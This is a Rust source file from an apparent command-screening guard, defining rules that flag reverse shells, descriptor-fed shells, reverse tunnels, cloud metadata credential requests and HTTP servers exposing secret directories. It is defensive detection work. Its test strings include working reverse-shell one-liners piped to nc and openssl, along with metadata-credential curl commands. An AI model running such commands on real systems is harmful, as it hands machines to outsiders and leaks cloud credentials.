//! Ways for others into this machine: shells handed to the network, tunnels,
//! the metadata services of clouds.

use super::network::FETCHERS;
use super::{HIGH, MEDIUM, Rule};
use crate::guard::Span;
use crate::guard::call::Call;
use crate::guard::shell::Operator;
use crate::guard::unwrap::{SHELLS, reads_commands};

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "shell-to-network",
        key: "shell whose output goes to the network",
        description: "hands a shell to another machine",
        weight: HIGH,
        programs: &[
            "nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "curl", "websocat",
        ],
        when: |call, _| call.feed.as_ref().and_then(|feed| feed.shell),
        hits: &[
            "sh -i 2>&1 | nc h 1",
            "/bin/sh 0</tmp/b | nc h 1 1>/tmp/b",
            "mkfifo s; /bin/sh -i < s 2>&1 | openssl s_client -quiet -connect h:1 > s",
            "script -qc /bin/bash /dev/null | nc h 1",
        ],
        misses: &[
            "sh build.sh | nc h 1",
            "echo hi | nc h 1",
            "bash report.sh | ssh h 'cat > r'",
        ],
    },
    Rule {
        id: "shell-from-descriptor",
        key: "shell that reads from an open descriptor",
        description: "runs whatever arrives on a descriptor that was opened before",
        weight: MEDIUM,
        programs: SHELLS,
        when: |call, _| {
            let mut reads = call
                .redirects
                .iter()
                .filter(|redirect| redirect.operator == Operator::DuplicateIn);
            let from = reads.find(|redirect| !matches!(redirect.target.text.as_str(), "-" | "0"));
            from.filter(|_| reads_commands(call))
                .map(|redirect| redirect.target.span)
        },
        hits: &[
            "exec 3<<<ls; bash <&3",
            "sh <&${COPROC[0]} >&${COPROC[1]}",
            "sh <&196 >&196 2>&196",
        ],
        misses: &["bash x.sh <&3", "read l <&3", "sh -c ls <&-"],
    },
    Rule {
        id: "reverse-tunnel",
        key: "tunnel into this machine",
        description: "opens a way for others into this machine",
        weight: MEDIUM,
        programs: &[
            "ssh",
            "autossh",
            "chisel",
            "ngrok",
            "cloudflared",
            "frpc",
            "bore",
            "lt",
            "localtunnel",
            "pagekite",
            "telebit",
            "rathole",
            "ligolo",
            "gost",
            "tailscale",
            "zrok",
            "pinggy",
            "devtunnel",
            "inlets",
        ],
        when: tunnels,
        hits: &[
            "ssh -R 2222:localhost:22 h",
            "ssh -fNR 9:localhost:22 h",
            "ngrok tcp 22",
            "chisel client h:1 R:socks",
            "tailscale funnel 3000",
        ],
        misses: &[
            "ssh -L 8080:localhost:80 h",
            "ssh h ls -R",
            "tailscale status",
            "ngrok version",
            "cloudflared --version",
        ],
    },
    Rule {
        id: "cloud-metadata",
        key: "credentials from the cloud's metadata service",
        description: "asks the cloud for the credentials of this machine",
        weight: HIGH,
        programs: FETCHERS,
        when: |call, _| {
            const SERVICES: &[&str] = &[
                "169.254.169.254",
                "169.254.170.2",
                "metadata.google.internal",
                "fd00:ec2::254",
                "100.100.100.200",
                "metadata.azure.com",
                "[::ffff:169.254.169.254]",
                "0xa9fea9fe",
                "2852039166",
                "192.0.0.192",
            ];
            let names = |text: &str| {
                let lower = text.to_lowercase();
                SERVICES.iter().any(|service| lower.contains(service))
            };
            call.args.iter().find(|arg| names(&arg.text)).map(|arg| arg.span)
        },
        hits: &[
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "wget -qO- http://metadata.google.internal/x",
            "curl 'http://[fd00:ec2::254]/latest/user-data'",
        ],
        misses: &["curl http://192.168.0.1/", "echo 169.254.169.254"],
    },
    Rule {
        id: "serve-secrets",
        key: "directory with secrets served over the network",
        description: "lets everybody in the network read this directory",
        weight: HIGH,
        programs: &[
            "python",
            "php",
            "ruby",
            "serve",
            "http-server",
            "busybox",
            "httpd",
            "miniserve",
            "twistd",
            "npx",
        ],
        when: |call, scene| {
            let server = call
                .args
                .iter()
                .any(|arg| matches!(arg.text.as_str(), "http.server" | "SimpleHTTPServer" | "-S" | "-run"))
                || call.is(&["serve", "http-server", "httpd", "miniserve"]);
            let folder = call.option_texts(&["-d", "--directory", "-t", "-h"]).chain(
                call.args
                    .iter()
                    .filter(|_| call.is(&["serve", "http-server", "miniserve"]))
                    .map(|arg| (arg.text.as_str(), arg)),
            );
            let mut exposed = folder.filter(|(text, _)| {
                let path = super::paths::locate(text, scene.setting);
                matches!(path.as_ref(), "/" | "~" | "/root" | "/etc" | "/home")
                    || super::paths::is_secret(text, scene.setting)
            });
            exposed.next().filter(|_| server).map(|(_, arg)| arg.span)
        },
        hits: &[
            "python3 -m http.server -d ~/.ssh",
            "python3 -m http.server --directory /",
            "php -S 0.0.0.0:80 -t ~/.ssh",
        ],
        misses: &[
            "python3 -m http.server -d public",
            "python -m http.server 8000",
            "php -S localhost:8000 -t public",
        ],
    },
];

fn tunnels(call: &Call, _: &super::Scene<'_>) -> Option<Span> {
    let verb = call.operands().next().map(|arg| arg.text.as_str());
    let opens = match call.name.as_str() {
        "ssh" | "autossh" => {
            // Behind the host stands the remote command.
            let host = crate::guard::unwrap::ssh_command_at(call).unwrap_or(call.args.len());
            let own = call.args.get(..host).unwrap_or_default();
            return own
                .iter()
                .find(|arg| {
                    crate::guard::call::is_group(&arg.text)
                        && !arg.text.starts_with("-o")
                        && !arg.text.starts_with("-i")
                        && arg.text.contains('R')
                        || arg.text.starts_with("-oRemoteForward")
                })
                .map(|arg| arg.span);
        }
        "ngrok" => matches!(verb, Some("tcp" | "http" | "tls" | "start")),
        "cloudflared" => matches!(verb, Some("tunnel" | "access")),
        "tailscale" => matches!(verb, Some("funnel" | "serve" | "ssh")),
        "chisel" => verb == Some("client"),
        "devtunnel" => matches!(verb, Some("host")),
        _ => !call.args.is_empty() && call.has(&["--help", "--version", "-h", "-v"]).is_none(),
    };
    opens.then_some(call.span)
}
